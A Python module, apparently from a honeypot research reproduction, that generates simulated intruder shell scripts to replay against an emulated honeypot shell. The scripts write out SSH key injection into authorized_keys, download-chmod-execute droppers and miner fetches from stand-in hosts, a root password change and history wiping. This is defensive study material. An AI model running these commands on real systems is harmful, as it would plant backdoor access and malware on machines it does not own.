"""The intruders' interaction-script library.

Each script is a list of shell input lines an intruder types after login.
Templates are parameterised by a campaign token so that, executed through
the real honeypot shell, a campaign's script produces campaign-unique file
content — hence a stable, campaign-unique hash, which is how the farm
correlates one campaign across honeypots.

The template mix mirrors the paper's Table 3 (information-gathering, script
execution, remote file access, SSH key handling, permission and credential
changes).

``build_script`` writes each line with placeholders where a string derived
from its arguments goes (the token, the dropper host, the file slot) and
then fills them in.  The unfilled lines are the script's *shape*: outside
``FULL_RUN_KINDS`` a transcript depends on the filled strings only by
substitution, and on the payload only through its length and sha256, so
:class:`~repro.workload.script_runner.ScriptRunner` runs the shell once per
shape and fills in the rest.
"""

from __future__ import annotations

import enum
import functools
import re
from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence, Tuple


class ScriptKind(enum.Enum):
    RECON = "recon"  # fingerprinting only; no files, no URIs
    KEY_INJECT = "key_inject"  # trojan SSH key via echo >> authorized_keys
    DROPPER = "dropper"  # wget/tftp payload, chmod, run (URI + file)
    MINER = "miner"  # download + install a coin miner (URI + file)
    CHPASSWD = "chpasswd"  # credential change (file, no URI)
    FILE_TOKEN = "file_token"  # one-off file write (unique hash, no URI)
    FILELESS = "fileless"  # commands, no file, no URI


#: Kinds whose transcript holds more than a substitution of their fills:
#: ``chpasswd`` writes ``/etc/shadow`` with a digest of its input line, so
#: these are profiled by a full shell run per script.  The digest is
#: ``honeypot/shell/commands/control.py:_shadow_digest``, which ``passwd``
#: also calls: no kind types ``passwd`` today, but one that did belongs
#: here too.  (The other such output, bytes the resolver derives from an
#: unregistered URI, is found when a shape runs.)
FULL_RUN_KINDS = frozenset({ScriptKind.CHPASSWD})

#: The placeholders ``build_script`` writes: plain words that the shell
#: treats like any other and that no fixed line or shell output contains.
#: Each starts with ``_MARK``, so text without it needs no filling.
_MARK = "qq"
TOKEN, HOST, SLOT = "qqTOKENqq", "qqHOSTqq", "qqSLOTqq"
_PLACEHOLDER_RE = re.compile(f"({TOKEN}|{HOST}|{SLOT})")


@functools.lru_cache(maxsize=4096)
def _split(text: str) -> Tuple[str, Tuple[Tuple[str, str], ...]]:
    """``text`` split at its placeholders, once per text: the literal
    before the first, then (placeholder, literal after it) pairs."""
    parts = _PLACEHOLDER_RE.split(text)
    return parts[0], tuple(zip(parts[1::2], parts[2::2]))


def fill(text: str, values: Dict[str, str]) -> str:
    """``text`` with every placeholder in ``values`` replaced by its value
    (one pass: an inserted value is never itself filled)."""
    if not values or _MARK not in text:
        return text
    head, rest = _split(text)
    return head + "".join([values.get(mark, mark) + tail for mark, tail in rest])


@dataclass(frozen=True)
class ScriptTemplate:
    """A fully instantiated script: input lines + the campaign identity.

    ``fills`` pairs each placeholder with the string ``build_script``
    derived for it; ``lines`` and ``dropper_uri`` are ``shape_lines`` and
    ``shape_uri`` with those filled in.  A template built by hand has no
    fills and is its own shape.
    """

    kind: ScriptKind
    lines: List[str]
    token: str = ""
    dropper_uri: Optional[str] = None
    payload: Optional[bytes] = None
    fills: Tuple[Tuple[str, str], ...] = ()
    shape_lines: Tuple[str, ...] = ()
    shape_uri: Optional[str] = None

    def __hash__(self) -> int:  # lines is a list; hash on identity fields
        return hash((self.kind, self.token, self.dropper_uri))

    @classmethod
    def filled(
        cls,
        kind: ScriptKind,
        token: str,
        shape_lines: Sequence[str],
        fills: Tuple[Tuple[str, str], ...] = (),
        shape_uri: Optional[str] = None,
        payload: Optional[bytes] = None,
    ) -> "ScriptTemplate":
        """The template whose placeholders ``fills`` fills in."""
        values = dict(fills)
        return cls(
            kind=kind,
            lines=[fill(line, values) for line in shape_lines],
            token=token,
            dropper_uri=None if shape_uri is None else fill(shape_uri, values),
            payload=payload,
            fills=fills,
            shape_lines=tuple(shape_lines),
            shape_uri=shape_uri,
        )

    @property
    def shape(self) -> Tuple:
        """Everything but the fills that the script's transcript depends on:
        the kind, the unfilled lines and dropper URI, and the payload length
        (the download time follows it)."""
        if self.fills:
            lines, uri = self.shape_lines, self.shape_uri
        else:
            lines, uri = tuple(self.lines), self.dropper_uri
        size = None if self.payload is None else len(self.payload)
        return (self.kind, lines, uri, size)


RECON_VARIANTS: List[List[str]] = [
    ["uname -a", "free -m", "w"],
    ["cat /proc/cpuinfo | grep name | wc -l", "free -m | grep Mem | awk '{print $2}'"],
    ["uname -s -v -n -r -m", "cat /proc/cpuinfo", "nproc"],
    ["uname -a", "lscpu", "df -h", "whoami"],
    ["w", "uname -m", "cat /proc/cpuinfo", "ls -lh $(which ls)"],
    ["uname -a", "cat /etc/passwd", "ps aux"],
    ["free -m", "uptime", "ifconfig"],
    ["nproc", "uname -r", "top"],
]

FILELESS_VARIANTS: List[List[str]] = [
    ["export HISTFILE=/dev/null", "history -c", "uname -a"],
    ["echo -e '\\x41\\x42'", "uname -a"],
    ["crontab -l", "ps aux", "netstat -an"],
    ["which ls", "which wget", "which curl"],
]


def build_script(
    kind: ScriptKind,
    token: str = "",
    dropper_host: str = "",
    arch: str = "arm7",
) -> ScriptTemplate:
    """Instantiate a script of ``kind`` for campaign ``token``.

    ``token`` individuates file content (and thus the recorded hash);
    ``dropper_host`` is the payload server for URI-bearing kinds.
    """
    if kind is ScriptKind.RECON:
        variant = RECON_VARIANTS[_stable_index(token, len(RECON_VARIANTS))]
        return ScriptTemplate.filled(kind, token, variant)

    if kind is ScriptKind.FILELESS:
        variant = FILELESS_VARIANTS[_stable_index(token, len(FILELESS_VARIANTS))]
        return ScriptTemplate.filled(kind, token, variant)

    if kind is ScriptKind.KEY_INJECT:
        key = f"AAAAB3NzaC1yc2EAAAADAQABAAABgQ{TOKEN}"
        lines = [
            "uname -a",
            "chattr -ia .ssh; lockr -ia .ssh",
            "cd ~ && rm -rf .ssh && mkdir .ssh && "
            f'echo "ssh-rsa {key} rsa-key" >> .ssh/authorized_keys && '
            "chmod -R go= ~/.ssh",
            "cat /proc/cpuinfo | grep name | wc -l",
            "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
            "ls -lh $(which ls)",
            "which ls",
            "crontab -l",
            "w",
            "uname -m",
            "top",
        ]
        return ScriptTemplate.filled(kind, token, lines,
                                     ((TOKEN, token or "default"),))

    if kind is ScriptKind.DROPPER:
        name = token or "bot"
        binary = f"{arch}.{TOKEN}"
        uri = f"http://{HOST}/bins/{binary}"
        lines = [
            "enable",
            "system",
            "shell",
            "sh",
            "/bin/busybox ECCHI",
            "cat /proc/mounts; /bin/busybox PEACH",
            f"cd /tmp; wget {uri} || tftp -g -r {binary} {HOST}",
            f"chmod 777 {binary}; ./{binary}; /bin/busybox IHCCE",
        ]
        return ScriptTemplate.filled(
            kind, token, lines,
            ((TOKEN, name), (HOST, dropper_host or "198.51.100.10")),
            shape_uri=uri, payload=_payload_bytes(name, size=52_000),
        )

    if kind is ScriptKind.MINER:
        name = token or "miner"
        uri = f"http://{HOST}/xm/{TOKEN}.sh"
        lines = [
            "uname -a",
            "nproc",
            f"cd /tmp && curl -O {uri} || wget {uri}",
            f"chmod +x {TOKEN}.sh",
            f"sh {TOKEN}.sh",
        ]
        return ScriptTemplate.filled(
            kind, token, lines,
            ((TOKEN, name), (HOST, dropper_host or "198.51.100.20")),
            shape_uri=uri, payload=_miner_payload(name),
        )

    if kind is ScriptKind.CHPASSWD:
        lines = [
            "uname -a",
            f'echo "root:P@{TOKEN}w0rd" > /tmp/.p',
            "chpasswd < /tmp/.p",
            "rm -f /tmp/.p",
        ]
        return ScriptTemplate.filled(kind, token, lines,
                                     ((TOKEN, token or "ss"),))

    if kind is ScriptKind.FILE_TOKEN:
        lines = [
            "uname -a",
            f'echo "{TOKEN}" > /var/tmp/.var{SLOT}',
            "cat /proc/cpuinfo",
        ]
        return ScriptTemplate.filled(
            kind, token, lines,
            ((TOKEN, token), (SLOT, f"{_stable_index(token, 97):02d}")),
        )

    raise ValueError(f"unhandled script kind {kind!r}")


def _stable_index(token: str, modulus: int) -> int:
    """Deterministic small index derived from a token string."""
    acc = 0
    for ch in token:
        acc = (acc * 131 + ord(ch)) % 1_000_003
    return acc % modulus


def _payload_bytes(token: str, size: int) -> bytes:
    """Deterministic pseudo-ELF payload for a campaign binary."""
    seed = token.encode("utf-8")
    header = b"\x7fELF\x01\x01\x01\x00" + seed[:8].ljust(8, b"\x00")
    body = (seed or b"x") * (size // max(len(seed), 1) + 1)
    return (header + body)[:size]


def _miner_payload(token: str) -> bytes:
    return (
        "#!/bin/sh\n"
        f"# {token}\n"
        "pkill -f xmrig\n"
        f"./xmrig -o pool.{token}.example:3333 -u 4{token}wallet --donate-level 1\n"
    ).encode("utf-8")
